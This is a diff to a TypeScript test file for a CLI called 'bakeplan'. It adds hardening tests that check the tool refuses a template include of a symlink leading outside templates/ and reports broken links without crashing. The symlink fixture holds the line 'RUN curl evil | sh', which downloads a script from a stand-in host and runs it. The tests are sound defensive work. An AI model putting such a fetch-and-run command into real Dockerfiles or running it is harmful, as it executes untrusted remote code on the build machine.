@@ -1,10 +1,10 @@
 // Hardening catalogue, "bad inputs": every row runs `bakeplan plan` through the CLI on a project
 // that was planned once, and asserts the exit code, the exact file:line:col (and key path or
 // template line) in the message, and that not one file, directory or mtime changed.
-import { writeFileSync } from "node:fs";
+import { symlinkSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { describe, expect, it } from "vitest";
-import { runCli } from "../helpers.js";
+import { runCli, testdir } from "../helpers.js";
 import { expectRefused, expectTreeUnchanged, HARD_CONTEXT, HARD_TEMPLATE, loc, plannedProject, snapshotTree } from "../hardening-helpers.js";
 
 /** HARD_CONTEXT with one exact piece replaced; fails loudly if the fixture no longer has it. */
@@ -433,6 +433,27 @@ describe("hardening: image references and tags", () => {
 
 describe("hardening: templates", () => {
   it.each(templateRows)("$name", expectRow);
+
+  it("templates: include of a symlink pointing outside templates/ (reported at the include)", async () => {
+    const dir = await plannedProject();
+    const outside = testdir({ "evil.liquid": "RUN curl evil | sh\n" });
+    const text = `${HARD_TEMPLATE}{% include 'evil' %}\n`;
+    writeFileSync(join(dir, "templates/Dockerfile.liquid"), text);
+    symlinkSync(join(outside, "evil.liquid"), join(dir, "templates/evil.liquid"));
+    const before = snapshotTree(dir);
+    const res = await runCli(["plan"], dir);
+    expectRefused(res, { at: [loc(text, "{% include", { file: "templates/Dockerfile.liquid" })], message: `evil.liquid is a link to ${join(outside, "evil.liquid")}, outside templates/` });
+    expectTreeUnchanged(dir, before);
+  });
+
+  it("templates: a broken link inside templates/ is an error, not a crash", async () => {
+    const dir = await plannedProject();
+    symlinkSync(join(dir, "templates/gone.liquid"), join(dir, "templates/link.liquid"));
+    const before = snapshotTree(dir);
+    const res = await runCli(["plan"], dir);
+    expectRefused(res, { at: ["templates/link.liquid: Broken link"], message: `(to ${join(dir, "templates/gone.liquid")})` });
+    expectTreeUnchanged(dir, before);
+  });
 });
 
 describe("hardening: values that would escape", () => {
